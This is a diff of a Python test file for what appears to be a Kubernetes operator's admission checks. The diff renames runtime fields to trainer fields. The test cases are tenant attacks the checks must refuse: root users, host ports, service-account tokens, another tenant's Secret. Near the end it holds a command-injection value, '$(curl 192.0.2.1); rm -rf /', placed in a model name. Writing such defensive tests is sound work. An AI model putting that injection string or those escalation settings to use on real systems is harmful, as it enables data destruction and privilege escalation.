@@ -13,7 +13,7 @@ from deepseek_operator.workloads.pod.reach import asked
 from tests.support.api_objects import Object, changed, minimal_serving, minimal_training
 
 Changes: TypeAlias = Mapping[str, Any]
-POD, ENV, VOLUME = "spec.runtime.pod", "spec.runtime.env", "spec.checkpoints.volume"
+POD, ENV, VOLUME = "spec.trainer.pod", "spec.trainer.env", "spec.checkpoints.volume"
 SECRET = "prize"
 """A Secret of the tenant's namespace that it may not read."""
 STRANGERS = ("taken-train", "taken-serve")
@@ -54,7 +54,7 @@ def _serving(name: str, changes: Changes, out: Refused | Told) -> Attack:
 def _pod(field: str, value: Any) -> Iterator[Attack]:
     """A field of a pod that neither kind's settings have."""
     out = f'pod.{field}"'
-    yield _training(f"a training's {field}", {POD: {field: value}}, Refused(f'unknown field "spec.runtime.{out}'))
+    yield _training(f"a training's {field}", {POD: {field: value}}, Refused(f'unknown field "spec.trainer.{out}'))
     yield _serving(f"a serving's {field}", {"spec.pod": {field: value}}, Refused(f'unknown field "spec.{out}'))
 
 
@@ -66,9 +66,9 @@ def _metadata(kind: str, key: str, value: str = "true") -> Iterator[Attack]:
 
 def _profile(name: str) -> Iterator[Attack]:
     accelerator = {"spec.accelerator": {"profile": name, "perNode": 1}}
-    own = {"image": "x:1", "command": ["/x"], "resources": {"memory": "1Ti"}}
+    own = {"type": "custom", "image": "x:1", "command": ["/x"], "resources": {"memory": "1Ti"}}
     told = Told("HostAccessNotAllowed")
-    yield _training(f"a training on {name}", {**accelerator, "spec.runtime": own, "spec.nodes": {"count": 1}}, told)
+    yield _training(f"a training on {name}", {**accelerator, "spec.trainer": own, "spec.nodes": {"count": 1}}, told)
     engine = {"type": "custom", "image": "x:1", "resources": {"memory": "1Ti"}}
     yield _serving(f"a serving on {name}", {**accelerator, "spec.engine": engine}, told)
 
@@ -108,12 +108,12 @@ def _every() -> Iterator[Attack]:
     yield _training("root", {POD: {"runAsUser": 0}}, Refused("greater than or equal to 1"))
     yield _serving("root serves", {"spec.pod": {"runAsUser": 0}}, Refused("greater than or equal to 1"))
     yield _training("a group of root's", {POD: {"fsGroup": 0}}, Refused("greater than or equal to 1"))
-    yield _training("host ports", {"spec.runtime.ports": [{"hostPort": 22}]}, Refused("unknown field"))
+    yield _training("host ports", {"spec.trainer.ports": [{"hostPort": 22}]}, Refused("unknown field"))
     # Other identities.
     for field, value in (("serviceAccountName", "admin"), ("automountServiceAccountToken", True)):
         yield from _pod(field, value)
     projected = [{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}}]
-    yield _training("a token's volume", {"spec.runtime.volumes": projected}, Refused("unknown field"))
+    yield _training("a token's volume", {"spec.trainer.volumes": projected}, Refused("unknown field"))
     # Secrets.
     key = {"secretKeyRef": {"name": SECRET, "key": "k"}}
     yield _training("a Secret by valueFrom", {ENV: [{"name": "A", "valueFrom": key}]}, Refused("unknown field"))
@@ -186,7 +186,7 @@ def _every() -> Iterator[Attack]:
         "a b",
         "x" * 1024,
     ):
-        yield _training(f"the image {image[:30]}", {"spec.runtime.image": image}, Refused("spec.runtime.image"))
+        yield _training(f"the image {image[:30]}", {"spec.trainer.image": image}, Refused("spec.trainer.image"))
     shell = {"spec.model.name": "$(curl 192.0.2.1); rm -rf /"}
     yield _serving("words for a shell as a model's name", shell, Refused("spec.model.name"))
     # Others' objects under the names of ours, and ownership that is forged.
